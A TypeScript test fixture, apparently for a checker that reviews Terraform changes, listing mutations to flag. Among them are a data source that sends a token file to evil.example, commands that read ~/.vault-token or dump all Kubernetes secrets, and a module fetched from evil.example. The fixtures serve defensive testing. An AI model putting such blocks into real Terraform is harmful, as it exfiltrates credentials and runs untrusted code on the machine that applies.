import { ACCESS, add, addBlock, DEV, LOCAL, OPERATOR, SERVER, set, each, type Mutation } from "./mutation";

const NODE_SET = { mount: "kvv2", name: "sample/sample-node-api/sample-node-api-dev" };

/** Programs that an apply runs, and blocks that read values or bring resources of their own. */
export const BLOCKS: readonly Mutation[] = [
  ...each({ config: "sample", expect: "judged" }, [
    {
      name: "a terraform_data with a program",
      change: (s) =>
        add(s, DEV, "terraform_data.extra", { provisioner: { "local-exec": { command: "vault kv get kvv2/x" } } }),
    },
    {
      name: "a null_resource with a program",
      change: (s) =>
        add(s, ACCESS, "null_resource.extra", { provisioner: [{ "local-exec": { command: "./grant.sh" } }] }),
    },
    {
      name: "a program that runs once a policy is written",
      change: (s) =>
        set(s, DEV, "vault_policy.sample-node-api_workload_policy", {
          provisioner: [{ "local-exec": { command: "vault policy write own-password wide.hcl" } }],
        }),
    },
    {
      name: "a program that runs on another machine",
      change: (s) =>
        set(s, OPERATOR, "kubernetes_namespace_v1.operator_namespace", {
          connection: { type: "ssh", host: "10.0.0.9" },
          provisioner: [{ "remote-exec": { inline: ["kubectl get secrets -A -o yaml"] } }],
        }),
    },
    {
      name: "a program that answers as a data source",
      change: (s) =>
        addBlock(s, ACCESS, "data", { external: { extra: { program: ["sh", "-c", "cat ~/.vault-token"] } } }),
    },
    {
      name: "a data source that reads a secret set",
      change: (s) => addBlock(s, DEV, "data", { vault_kv_secret_v2: { extra: NODE_SET } }),
    },
    {
      name: "an import of a secret set, whose values would be in the state",
      change: (s) =>
        void (s[DEV].import = [{ to: "vault_kv_secret_v2.sample-node-api_secrets_data", id: "kvv2/data/x" }]),
    },
    {
      name: "an import of what an expression says",
      change: (s) => void (s[ACCESS].import = [{ to: "vault_mount.kv", id: "${var.mount}" }]),
    },
    {
      name: "a data source that sends something over http",
      change: (s) =>
        addBlock(s, LOCAL, "data", {
          http: { extra: { url: 'https://evil.example/${file("/var/run/secrets/token")}' } },
        }),
    },
    {
      name: "a data source that reads another stack's state",
      change: (s) =>
        addBlock(s, LOCAL, "data", {
          terraform_remote_state: { extra: { backend: "local", config: { path: "../sample-prod.tfstate" } } },
        }),
    },
    {
      name: "an ephemeral resource that reads a secret set",
      change: (s) => addBlock(s, DEV, "ephemeral", { vault_kv_secret_v2: { extra: NODE_SET } }),
    },
    {
      name: "an ephemeral resource that makes a token of a service account",
      change: (s) =>
        addBlock(s, LOCAL, "ephemeral", {
          kubernetes_token_request_v1: {
            extra: { metadata: { name: "sample-node-api-vault-operator-sa", namespace: "sample" } },
          },
        }),
    },
    {
      name: "an ephemeral resource that makes a token of Vault",
      change: (s) => addBlock(s, ACCESS, "ephemeral", { vault_token: { extra: { policies: ["platform-admin"] } } }),
    },
    {
      name: "an output that prints a file of the machine that applies",
      change: (s) => addBlock(s, ACCESS, "output", { extra: { value: '${file(pathexpand("~/.vault-token"))}' } }),
    },
    {
      name: "an output that prints a value",
      change: (s) =>
        addBlock(s, LOCAL, "output", {
          extra: { value: "${kubernetes_secret_v1.sample-node-api_binding_secret.data}", sensitive: true },
        }),
    },
    {
      name: "a module from elsewhere",
      change: (s) => addBlock(s, ACCESS, "module", { extra: { source: "git::https://evil.example/grants.git" } }),
    },
    {
      name: "a module in an operator stack",
      change: (s) => addBlock(s, OPERATOR, "module", { extra: { source: "./modules/rights" } }),
    },
    {
      name: "a check with a data source of its own",
      change: (s) =>
        addBlock(s, SERVER, "check", { extra: { data: { http: { x: { url: "https://evil.example" } } } } }),
    },
    {
      name: "an action that a resource triggers",
      change: (s) =>
        addBlock(s, OPERATOR, "action", { local_command: { extra: { config: { command: "./grant.sh" } } } }),
    },
    {
      name: "the import of somebody else's release",
      change: (s) => {
        s[SERVER].import = [{ to: "helm_release.vault_release", id: "other/vault" }];
      },
    },
  ]),
  ...each({ config: "production", expect: "judged" }, [
    {
      name: "a data source that reads another environment's secret set",
      change: (s) =>
        addBlock(s, "acme-dev", "data", {
          vault_generic_secret: { extra: { path: "apps/data/acme/payments/payments-stg" } },
        }),
    },
    {
      name: "a data source that reads a Secret",
      change: (s) =>
        addBlock(s, "acme-operator-prod-eu", "data", {
          kubernetes_secret_v1: { extra: { metadata: { name: "payments-prod-eu-secrets", namespace: "payments" } } },
        }),
    },
  ]),
];
